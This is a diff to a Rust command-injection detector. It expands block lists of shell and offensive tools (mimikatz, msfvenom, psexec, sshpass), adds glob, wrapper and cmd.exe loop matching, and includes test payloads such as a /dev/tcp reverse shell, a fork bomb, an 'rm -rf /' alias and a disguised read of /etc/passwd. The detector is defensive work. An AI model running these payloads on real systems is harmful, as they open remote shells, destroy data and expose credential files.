@@ -105,6 +105,210 @@ const STRONG: &[&str] = &[
     "grep",
     "egrep",
     "fgrep",
+    "visudo",
+    "vipw",
+    "base32",
+    "zcat",
+    "zstdcat",
+    "bzcat",
+    "xzcat",
+    "lzcat",
+    "bsdtar",
+    "irb",
+    "gdb",
+    "c89",
+    "c99",
+    "flock",
+    "perf",
+    "rmt",
+    "lastlog",
+    "lastlogin",
+    "cscli",
+    "knife",
+    "nsenter",
+    "unshare",
+    "chroot",
+    "strace",
+    "ltrace",
+    "setarch",
+    "taskset",
+    "ionice",
+    "stdbuf",
+    "rlwrap",
+    "sshpass",
+    "tcpdump",
+    "tshark",
+    "nping",
+    "dmesg",
+    "lsmod",
+    "insmod",
+    "modprobe",
+    "rmmod",
+    "sysctl",
+    "ifdown",
+    "journalctl",
+    "launchctl",
+    "dscl",
+    "certreq",
+    "wevtutil",
+    "nltest",
+    "dsquery",
+    "quser",
+    "qwinsta",
+    "cmdkey",
+    "msbuild",
+    "installutil",
+    "regasm",
+    "cmstp",
+    "odbcconf",
+    "forfiles",
+    "tclsh",
+    "jjs",
+    "jshell",
+    "groovy",
+    "php-cgi",
+    "runc",
+    "crictl",
+    "kubeadm",
+    "gsutil",
+    "s3cmd",
+    "rclone",
+    "rsync",
+    "sftp",
+    "smbclient",
+    "rpcclient",
+    "ldapsearch",
+    "mysqldump",
+    "pg_dump",
+    "mongosh",
+    "sqlcmd",
+    "osql",
+    "nmcli",
+    "iwconfig",
+    "hping3",
+    "arping",
+    "whois",
+    "ngrep",
+    "zmap",
+    "msfconsole",
+    "msfvenom",
+    "searchsploit",
+    "psexec",
+    "mimikatz",
+    "proxychains",
+    "torsocks",
+    "uuencode",
+    "uudecode",
+    "hexdump",
+    "objdump",
+    "readelf",
+    "ldd",
+    "gcore",
+    "lsattr",
+    "getfacl",
+    "mkfs",
+    "fdisk",
+    "losetup",
+    "shred",
+    "pkexec",
+    "doas",
+    "runuser",
+    "sudoedit",
+    "chpasswd",
+    "userdel",
+    "groupadd",
+    "gpasswd",
+    "chage",
+    "getcap",
+    "setcap",
+    "capsh",
+    "setsid",
+];
+
+/// Tool families whose members are `family-verb` (`ansible-playbook`, `chef-client`).
+const FAMILIES: &[&str] = &[
+    "ansible",
+    "chef",
+    "ssh",
+    "systemd",
+    "mysql",
+    "pg",
+    "redis",
+    "aws",
+    "docker",
+    "kube",
+    "puppet",
+    "salt",
+    "ip6tables",
+    "nft",
+];
+
+/// Strong binaries that still read as words or product names in prose.
+const COMMONISH: &[&str] = &[
+    "passwd",
+    "host",
+    "dig",
+    "route",
+    "sc",
+    "reg",
+    "cc",
+    "node",
+    "lua",
+    "php",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "sh",
+    "cmd",
+    "hostname",
+    "base64",
+    "sudo",
+    "arp",
+    "gcc",
+    "awk",
+    "sed",
+    "grep",
+    "xterm",
+    "curl",
+    "wget",
+    "bash",
+    "powershell",
+    "nmap",
+    "tar",
+    "perf",
+    "knife",
+    "groovy",
+    "whois",
+    "rsync",
+    "nc",
+];
+
+/// Words that run the command after them (`time sh -c id`, `nohup x`).
+const WRAPPERS: &[&str] = &[
+    "time", "nohup", "nice", "env", "sudo", "doas", "exec", "command", "builtin", "xargs",
+    "timeout", "flock", "stdbuf", "setsid", "strace", "chroot", "watch", "ionice", "taskset",
+    "busybox", "call", "start",
+];
+
+/// Strong binaries that may also be the whole value alone (`visudo`), unlike
+/// product names (`python`, `curl`) a form field may legitimately hold.
+const BARE: &[&str] = &[
+    "whoami",
+    "ifconfig",
+    "ipconfig",
+    "visudo",
+    "vipw",
+    "systeminfo",
+    "uname",
+    "netstat",
+    "tasklist",
+    "dmesg",
+    "lsmod",
+    "getcap",
+    "chef-shell",
+    "ansible-console",
 ];
 
 /// Binaries that are also ordinary words: they need a shell-looking argument.
@@ -214,7 +418,13 @@ fn binary(word: &str) -> Option<bool> {
         let strong = STRONG.iter().map(|w| (*w, true));
         WORDS.iter().map(|w| (*w, false)).chain(strong).collect()
     });
-    TABLE.get(word).copied()
+    TABLE.get(word).copied().or_else(|| {
+        let (family, verb) = word.split_once('-')?;
+        (FAMILIES.contains(&family)
+            && !verb.is_empty()
+            && verb.bytes().all(|c| c.is_ascii_lowercase()))
+        .then_some(true)
+    })
 }
 
 /// Matches a glob word (`c?t`, `/???/c*t` after the path is dropped) against the table.
@@ -283,6 +493,21 @@ fn word(s: &str) -> (String, &str) {
             {
                 break
             }
+            // A bracket class is one globbed character (`[u]name`, `pa[!x]swd`).
+            b'[' => match b
+                .get(i + 1..)
+                .and_then(|r| r.iter().take(16).position(|c| *c == b']'))
+            {
+                Some(end) => {
+                    let class = &b[i + 1..i + 1 + end];
+                    match class {
+                        [c] if c.is_ascii_alphanumeric() => w.push(c.to_ascii_lowercase() as char),
+                        _ => w.push('?'),
+                    }
+                    i += end + 2;
+                }
+                None => break,
+            },
             b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b')' | b'(' | b','
             | b'<' | b'>' | b'}' | b'{' => break,
             _ => {
@@ -326,10 +551,38 @@ fn best(a: Option<Found>, b: Option<Found>) -> Option<Found> {
 /// Judges the command at the start of `s`; `after_sep` says a separator or
 /// substitution came before it.
 fn command_at(s: &str, after_sep: bool) -> Option<Found> {
+    command_at_depth(s, after_sep, 0)
+}
+
+/// An option (`-l`, `--version`) or a path (`/etc/x`, `~/x`) right after a word.
+fn strong_args(rest: &str) -> bool {
+    let r = rest.trim_start_matches([' ', '\t', '+']);
+    if r.len() == rest.len() {
+        return false;
+    }
+    let b = r.as_bytes();
+    match b.first() {
+        Some(b'-') => {
+            let o = if b.get(1) == Some(&b'-') {
+                b.get(2)
+            } else {
+                b.get(1)
+            };
+            o.is_some_and(|c| c.is_ascii_alphabetic())
+        }
+        Some(b'/') => b
+            .get(1)
+            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'?'),
+        Some(b'~') => true,
+        _ => false,
+    }
+}
+
+fn command_at_depth(s: &str, after_sep: bool, depth: usize) -> Option<Found> {
     let mut t = s;
     loop {
         let before = t.len();
-        t = t.trim_start_matches([' ', '\t', '\n', '\r', '{', '(']);
+        t = t.trim_start_matches([' ', '\t', '\n', '\r', '{', '(', '@']);
         for blank in ["${IFS}", "$IFS"] {
             if let Some(r) = t.strip_prefix(blank) {
                 t = r;
@@ -343,9 +596,48 @@ fn command_at(s: &str, after_sep: bool) -> Option<Found> {
     if w.is_empty() {
         return None;
     }
+    // `f(){ f|f& };f`: a shell function definition.
+    if let Some(body) = rest.trim_start().strip_prefix("()") {
+        if body.trim_start().starts_with('{')
+            && w.bytes()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b':' | b'.'))
+        {
+            return Some(("rce.function_definition", 0.85));
+        }
+    }
+    if w == "alias" {
+        let r = rest.trim_start();
+        let name = r
+            .bytes()
+            .take_while(|c| !matches!(c, b'=' | b' ' | b'\t' | b'\n'))
+            .count();
+        if name > 0 && r.as_bytes().get(name) == Some(&b'=') {
+            return Some(("rce.alias", 0.75));
+        }
+    }
     let absolute = w.starts_with('/') || w.starts_with("c:\\") || w.starts_with("c:/");
     let base = w.rsplit(['/', '\\']).next().unwrap_or(&w);
     let base = base.strip_suffix(".exe").unwrap_or(base);
+    if depth < 3 && WRAPPERS.contains(&base) && rest.starts_with([' ', '\t', '+']) {
+        // Skip the wrapper's options and operands (`timeout 5`, `flock -u /`).
+        let mut r = rest;
+        for _ in 0..4 {
+            let t = r.trim_start_matches([' ', '\t', '+']);
+            if t.starts_with('-')
+                || t.starts_with("/ ")
+                || t.starts_with(|c: char| c.is_ascii_digit())
+            {
+                r = t
+                    .find([' ', '\t', '+'])
+                    .map_or("", |e| t.get(e..).unwrap_or(""));
+            } else {
+                break;
+            }
+        }
+        if let Some(f) = command_at_depth(r, true, depth + 1) {
+            return Some(if after_sep { f } else { (f.0, f.1.min(0.8)) });
+        }
+    }
     let known = if base.contains(['?', '*']) {
         glob_binary(base)
     } else {
@@ -370,19 +662,51 @@ fn command_at(s: &str, after_sep: bool) -> Option<Found> {
         return None;
     }
     let args = shellish(rest);
+    let bare = rest.trim().is_empty();
     match (after_sep, strong, absolute) {
         (true, true, _) => Some(("rce.command", 0.9)),
         (true, false, _) if args => Some(("rce.command", 0.85)),
         (false, _, true) if args => Some(("rce.binary_path", 0.75)),
-        (false, true, false) if args && !rest.trim().is_empty() => Some(("rce.command_start", 0.6)),
+        (false, true, false) if args && !bare => Some(("rce.command_start", 0.6)),
+        (false, true, false) if bare && BARE.contains(&base) => Some(("rce.command_start", 0.6)),
+        (false, _, false) if strong_args(rest) => Some(("rce.command_start", 0.6)),
+        // `cscli alerts list`: a tool that is no English word, with word arguments.
+        (false, true, false)
+            if rest.starts_with([' ', '+'])
+                && !bare
+                && !COMMONISH.contains(&base)
+                && rest.len() < 120 =>
+        {
+            Some(("rce.command_start", 0.55))
+        }
         _ => None,
     }
 }
+
+/// cmd.exe `FOR ... %x IN (...)` loops and `IF` conditions, at the start or after a separator.
+static CMD_CONTROL: LazyLock<Option<regex::Regex>> = LazyLock::new(|| {
+    regex::Regex::new(concat!(
+        r#"(?i)(?:^|[&|;(\n])\s*@?(?:"#,
+        r#"for\s+(?:/[dlrf]\s+)*(?:\\?"[^"]*"\s+|[a-z]:\S*\s+)?%\S{0,32}\s+in\s*\("#,
+        r#"|if(?:\s+|\s*/i\s+)(?:not\s+)?(?:exist\s+\S|errorlevel\s+\d|defined\s+\w|cmdextversion\s+\d"#,
+        r#"|"[^"]*"\s*==|\S+\s*==\s*\S|\(?\s*\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S))"#
+    ))
+    .ok()
+});
 
 /// Judges a decoded value.
 pub fn detect(s: &str) -> Option<Found> {
     let b = s.as_bytes();
     let mut found = None;
+    if s.len() >= 6
+        && b.windows(3).any(|w| {
+            (w[0] | 0x20 == b'f' && w[1] | 0x20 == b'o' && w[2] | 0x20 == b'r')
+                || (w[0] | 0x20 == b'i' && w[1] | 0x20 == b'f' && w[2].is_ascii_whitespace())
+        })
+        && CMD_CONTROL.as_ref().is_some_and(|r| r.is_match(s))
+    {
+        return Some(("rce.cmd_control", 0.8));
+    }
     let lower_has =
         |needle: &str| s.len() >= needle.len() && s.to_ascii_lowercase().contains(needle);
     if memchr::memchr(b'$', b).is_some() && (s.contains("${IFS}") || s.contains("$IFS")) {
@@ -401,6 +725,13 @@ pub fn detect(s: &str) -> Option<Found> {
             b'|' | b'&' => Some(if b.get(i + 1) == Some(&c) { 2 } else { 1 }),
             b'$' if b.get(i + 1) == Some(&b'(') => Some(2),
             // A backtick starts a substitution unless it opens Markdown code after a blank.
+            // A run of backticks is a Markdown fence, never a substitution.
+            b'`' if i > 0 && b[i - 1] == b'`' || b.get(i + 1) == Some(&b'`') => {
+                while b.get(i + 1) == Some(&b'`') {
+                    i += 1;
+                }
+                None
+            }
             b'`' if i == 0 || !b[i - 1].is_ascii_whitespace() => Some(1),
             b'{' if b.get(i + 1).is_some_and(|n| n.is_ascii_alphabetic()) => Some(1),
             _ => None,
@@ -462,6 +793,19 @@ mod tests {
             "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
             "x\nls -la",
             "powershell -enc SQBFAFgA",
+            "for /f \"delims=\" %G IN ('SET') DO @Echo %G",
+            "& FOR %@ IN (a,b,c)DO cmd",
+            "if not (2 equ 2) echo hey",
+            "IF EXIST C:\\pagefile.sys CMD",
+            "if \"%1\"==\"\" goto ERROR",
+            "time sh -c whoami",
+            "nohup ifconfig",
+            "ansible-playbook site.yml",
+            "cat /path/file.gz",
+            ":(){ :|:& };:",
+            "alias ll='rm -rf /'",
+            "cat /etc/pa[s]swd",
+            "visudo",
         ] {
             assert!(detect(a).is_some_and(|f| f.1 >= 0.5), "missed {a:?}");
         }
@@ -483,6 +827,12 @@ mod tests {
             "SKU-104",
             "/api/v1/users/130",
             "more info | less noise",
+            "passwd reset help",
+            "```python\nfor i in range(10):\n    print(i)\n```",
+            "if you want, for a while",
+            "python",
+            "time flies like an arrow",
+            "for each item in (the list) do nothing",
         ] {
             assert_eq!(detect(b), None, "flagged {b:?}");
         }
